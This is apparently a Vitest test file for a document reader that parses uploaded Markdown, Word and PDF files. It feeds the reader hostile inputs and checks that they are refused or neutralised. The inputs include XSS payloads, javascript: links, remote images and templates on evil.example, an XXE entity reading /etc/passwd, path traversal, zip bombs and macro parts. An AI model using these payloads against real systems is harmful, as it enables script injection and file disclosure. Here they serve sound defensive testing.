/** Files that mean harm, and files that are merely strange: refused with a sentence, or harmless and said so. */
import { zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { readDocument } from '../../../server/documents/reading/read.ts';
import { CodmapError } from '../../../server/errors.ts';
import { makeDocx, paragraph, picture } from '../../helpers/documents/docx.ts';

const text = (content: string) => Buffer.from(content);
const markdown = (content: string) => readDocument('a.md', text(content));
/** The code of the refusal; its sentence names the file. */
const refusal = async (name: string, bytes: Uint8Array): Promise<string> => {
  const error = await readDocument(name, bytes).then(
    () => undefined,
    (found: unknown) => found,
  );
  if (!(error instanceof CodmapError)) throw new Error(`${name} was read, or failed otherwise: ${String(error)}`);
  expect(error.message).toContain(name);
  return error.code;
};
/** Whatever runs, loads or jumps. */
const ACTIVE =
  /<(?:script|svg|iframe|object|embed|form|input|style|link|meta|base|video|audio|math)|\son\w+=|javascript:|vbscript:|src="(?!data:image\/)|style=/i;
const told = ({ told: points }: Awaited<ReturnType<typeof readDocument>>) => points.map(({ code, count }) => [code, count]);
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

describe('what a file is, is what its bytes are', () => {
  test.each([
    ['an ending of another format', 'plan.pdf', makeDocx({ body: paragraph('x') }), 'document.not-what-it-says'],
    ['text that is called a Word document', 'plan.docx', text('# Plan'), 'document.not-what-it-says'],
    ['a PDF that is called Markdown', 'plan.md', text('%PDF-1.7\n%%EOF\n'), 'document.not-what-it-says'],
    ['a program', 'plan.exe', text('MZ\u0000\u0001'), 'document.format'],
    ['an old Word document', 'plan.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'document.format'],
    ['HTML', 'plan.html', text('<script>alert(1)</script>'), 'document.format'],
    ['nothing', 'plan.md', new Uint8Array(0), 'document.empty'],
    ['text with control characters', 'plan.md', text('a\u0000b'), 'document.format'],
    ['text that is no UTF-8', 'plan.md', Buffer.from('r\u00e9union', 'latin1'), 'document.format'],
    ['more text than a document has', 'plan.md', Buffer.alloc(2_000_001, 'a'), 'document.format'],
    ['a PDF that is cut off', 'plan.pdf', text('%PDF-1.7\n1 0 obj\n'), 'document.pdf'],
    ['a PDF with an archive behind it', 'plan.pdf', Buffer.concat([text('%PDF-1.7\n%%EOF\n'), Buffer.alloc(4000, 1)]), 'document.pdf'],
    ['a PDF with HTML in front of it', 'plan.pdf', text('<script>alert(1)</script>%PDF-1.7\n%%EOF\n'), 'document.not-what-it-says'],
    ['a PDF of no known version', 'plan.pdf', text('%PDF-<script>\n%%EOF\n'), 'document.pdf'],
    ['a Word document with a picture in front of it', 'plan.docx', Buffer.concat([PNG, makeDocx({ body: paragraph('x') })]), 'document.format'],
    ['a workbook', 'plan.docx', zipSync({ '[Content_Types].xml': text('<Types/>'), 'xl/workbook.xml': text('<workbook/>') }), 'document.not-word'],
    ['more than 20 MB', 'plan.pdf', Buffer.alloc(20_000_001, 1), 'document.too-large'],
  ])('%s', async (_, name, bytes, code) => expect(await refusal(name, bytes)).toBe(code));

  test('a PDF is kept, and never shown', async () => {
    expect(await readDocument('plan.pdf', text('%PDF-1.7\n/JavaScript\n%%EOF\n'))).toEqual({
      format: 'pdf',
      media: 'application/pdf',
      html: null,
      headings: [],
      told: [],
    });
  });
});

describe('Markdown', () => {
  const HOSTILE = `# A <b>title</b>

<script>alert(1)</script> <svg onload=alert(1)><a xlink:href="javascript:alert(1)"/></svg> <img src=x onerror=alert(1)>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) [d](//evil.example/x) [e](/\\\\evil.example) [f](vbscript:x)
[g](&#106;avascript:alert(1)) [h](<java script:alert(1)>) [i]( "x") [j](file:///etc/passwd) [k](/c/SLE) [l](mailto:imwg@example.org)

![remote](https://evil.example/a.png) ![other](//evil.example/b.png) ![svg](data:image/svg+xml;base64,PHN2Zy8+) ![in it](data:image/png;base64,${PNG.toString('base64')})

<iframe src="https://evil.example"></iframe>

| a | b |
| --- | --- |
| <style>*{display:none}</style> | [x](javascript:1) |
`;
  test('with scripts, drawings and pictures of others is text, and says what was left out', async () => {
    const read = await markdown(HOSTILE);
    expect(read.html!.replace(/&lt;[\s\S]*?&gt;/g, '')).not.toMatch(ACTIVE);
    expect(read.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(read.html).toContain('<h1 id="h-a-b-title-b">A &lt;b&gt;title&lt;/b&gt;</h1>');
    const links = [...read.html!.matchAll(/<a [^>]*href="([^"]*)"/g)].map(([, href]) => href);
    // A backslash that is written as such is a part of a path of this server.
    expect(links).toEqual(['/%5Cevil.example', '/c/SLE', 'mailto:imwg@example.org']);
    expect([...read.html!.matchAll(/<img src="(data:image\/\w+);/g)].map(([, kind]) => kind)).toEqual(['data:image/png']);
    expect(read.html).toContain('<em>remote</em>');
    expect(Object.fromEntries(told(read))).toMatchObject({ 'remote-images': 2, images: 1, 'html-left-out': 12 });
  });

  test('leads within the document by the names of its headings, in any script', async () => {
    const { html, headings } = await markdown('[a](#the-purpose) [b](#%D8%A7%D9%84%D8%BA%D8%B1%D8%B6)\n\n## The purpose\n\n## الغرض\n\n## The purpose\n');
    expect(headings).toEqual([
      { id: 'h-the-purpose', level: 2, text: 'The purpose' },
      { id: 'h-الغرض', level: 2, text: 'الغرض' },
      { id: 'h-the-purpose-2', level: 2, text: 'The purpose' },
    ]);
    expect(html).toContain('<a href="#h-the-purpose">a</a> <a href="#h-الغرض">b</a>');
  });

  test('of nothing but marks takes no longer than a text of its length', async () => {
    for (const hostile of [
      '['.repeat(30_000),
      '<a'.repeat(15_000),
      '*a '.repeat(10_000),
      '![[]()'.repeat(5000),
      `${'>'.repeat(10_000)} x`,
      '- '.repeat(5000),
      '`'.repeat(30_000),
    ]) {
      const start = performance.now();
      await markdown(hostile);
      expect(performance.now() - start, hostile.slice(0, 6)).toBeLessThan(5000);
    }
  });

  test('with more than a page can show is offered as a file', async () => {
    const row = `|${' x |'.repeat(20)}\n`;
    const table = `|${' a |'.repeat(20)}\n|${' --- |'.repeat(20)}\n${row.repeat(1100)}`;
    expect(await markdown(table)).toMatchObject({ html: null, told: [{ code: 'long', count: 1 }] });
    expect((await markdown(`|${' a |'.repeat(20)}\n|${' --- |'.repeat(20)}\n${row.repeat(20)}`)).html).toContain('<div class="wide" tabindex="0"><table>');
  });
});

describe('a Word document', () => {
  test('is read by its headings, lists of names and tables', async () => {
    const cell = (content: string) => `<w:tc>${paragraph(content)}</w:tc>`;
    const body = `${paragraph('Terms & reference', 'Heading1')}${paragraph('<script>alert(1)</script>')}<w:tbl><w:tr>${cell('a')}${cell('b')}</w:tr></w:tbl>`;
    const read = await readDocument('tor.docx', makeDocx({ body }));
    expect(read).toMatchObject({ format: 'docx', headings: [{ id: 'h-terms-reference', level: 1, text: 'Terms & reference' }], told: [] });
    expect(read.html).toContain('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(read.html).toContain('<td><p>a</p></td>');
  });

  test.each([
    ['macros by its name', 'tor.docm', makeDocx({ body: '' }), 'document.macros'],
    ['macros by what it holds', 'tor.docx', makeDocx({ body: '', parts: { 'word/vbaProject.bin': 'x' } }), 'document.macros'],
    ['macros by what it says', 'tor.docx', makeDocx({ body: '', main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), 'document.macros'],
    ['an ActiveX control', 'tor.docx', makeDocx({ body: '', parts: { 'word/activeX/activeX1.xml': '<x/>' } }), 'document.macros'],
    ['a program as an object', 'tor.docx', makeDocx({ body: '', parts: { 'word/embeddings/oleObject1.bin': 'MZ' } }), 'document.macros'],
    ['a template from elsewhere', 'tor.docx', makeDocx({ body: '', parts: { 'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r1" Type="${RELATION}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>` } }), 'document.macros'],
    ['no text part', 'tor.docx', zipSync({ '[Content_Types].xml': text('<Types/>') }), 'document.not-word'],
    ['a directory that is cut off', 'tor.docx', makeDocx({ body: paragraph('x') }).subarray(0, 400), 'document.damaged'],
    ['broken XML', 'tor.docx', makeDocx({ body: '<w:p><w:r>' }), 'document.damaged'],
    ['a part outside the archive', 'tor.docx', makeDocx({ body: '', parts: { '../../evil.xml': 'x' } }), 'document.damaged'],
    ['a part that unpacks to far more', 'tor.docx', makeDocx({ body: '', parts: { 'word/media/a.png': new Uint8Array(60_000_000) } }), 'document.too-much'],
    ['many parts that do so together', 'tor.docx', makeDocx({ body: '', parts: Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`word/media/${i}.png`, new Uint8Array(30_000_000)])) }), 'document.too-much'],
  ])('with %s', async (_, name, bytes, code) => expect(await refusal(name, bytes)).toBe(code)); // prettier-ignore

  test('loads nothing: neither external entities nor pictures of others', async () => {
    const relations = `<Relationship Id="rOut" Type="${RELATION}/image" Target="https://evil.example/a.png" TargetMode="External"/>`;
    const out = `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rOut"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

    expect(await readDocument('a.docx', makeDocx({ body: out + paragraph('after'), relations }))).toMatchObject({
      html: '<p>after</p>',
      told: [{ code: 'remote-images', count: 1 }],
    });
    const entity = makeDocx({ body: '', parts: { 'word/document.xml': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>` } }); // prettier-ignore
    expect(await refusal('a.docx', entity)).toBe('document.damaged');
  });

  test('shows pictures that browsers show, and counts the others', async () => {
    const relations = ['png', 'emf'].map((kind) => `<Relationship Id="r${kind}" Type="${RELATION}/image" Target="media/a.${kind}"/>`).join('');
    const read = await readDocument(
      'a.docx',
      makeDocx({ body: picture('rpng') + picture('remf'), relations, parts: { 'word/media/a.png': PNG, 'word/media/a.emf': 'emf' } }),
    );
    expect(read.html).toMatch(/<img src="data:image\/png;base64,[^"]+" alt="a picture" \/>/);
    expect(told(read)).toEqual([['images', 1]]);
  });

  test('tells who wrote it, comments, tracked changes, hidden text and embedded files', async () => {
    const body = `<w:p><w:ins w:id="1" w:author="Zelda"><w:r><w:t>new</w:t></w:r></w:ins><w:del w:id="2" w:author="Zelda"><w:r><w:delText>old</w:delText></w:r></w:del></w:p><w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r></w:p>`;
    const parts = {
      'docProps/core.xml':
        '<cp:coreProperties xmlns:cp="x" xmlns:dc="y"><dc:creator>Zelda</dc:creator><cp:lastModifiedBy>Yussuf</cp:lastModifiedBy></cp:coreProperties>',
      'word/comments.xml': '<w:comments xmlns:w="x"><w:comment w:id="0" w:author="Zelda"/><w:comment w:id="1" w:author="Yussuf"/></w:comments>',
      'word/embeddings/sheet1.xlsx': 'PK',
    };
    const read = await readDocument('a.docx', makeDocx({ body, parts }));
    expect(told(read)).toEqual([['author', 2], ['comments', 2], ['tracked-changes', 2], ['hidden-text', 1], ['embedded-files', 1]]); // prettier-ignore
    expect(read.html).not.toMatch(/Zelda|Yussuf|old/);
  });
});
